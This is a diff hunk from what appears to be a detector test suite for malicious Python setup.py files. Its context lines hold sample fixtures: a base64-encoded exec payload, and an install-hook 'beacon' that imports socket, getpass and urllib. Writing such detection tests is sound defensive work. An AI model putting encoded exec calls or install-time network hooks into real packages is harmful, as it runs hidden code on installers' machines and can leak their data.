@@ -3,10 +3,9 @@ from _kit import fires, silent
 fires("setup_py_exec_b64", "setup_py_exec_decoded", "critical", "setup.py",
       "setup-exec.py", "import base64\nfrom setuptools import setup\n"
       "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup(name='colorsx', version='0.1')\n")
-silent("setup_py_plain", "setup_py_exec_decoded", "setup.py",
-       "setup-plain.py", "from setuptools import setup, find_packages\n\n"
-       "with open('README.md') as f:\n    long_description = f.read()\n\n"
-       "setup(name='tool', version='1.0', packages=find_packages(), long_description=long_description)\n")
+silent("setup_py_plain", "setup_py_exec_decoded", "setup.py", "setup-plain.py",
+       "from setuptools import setup, find_packages\n\nwith open('README.md') as f:\n    long_description = f.read()\n"
+       "\nsetup(name='tool', version='1.0', packages=find_packages(), long_description=long_description)\n")
 fires("setup_py_beacon", "setup_py_network_at_install", "high", "setup.py",
       "setup-beacon.py", "import socket, getpass, urllib.request\nfrom setuptools import setup\n"
       "from setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n"
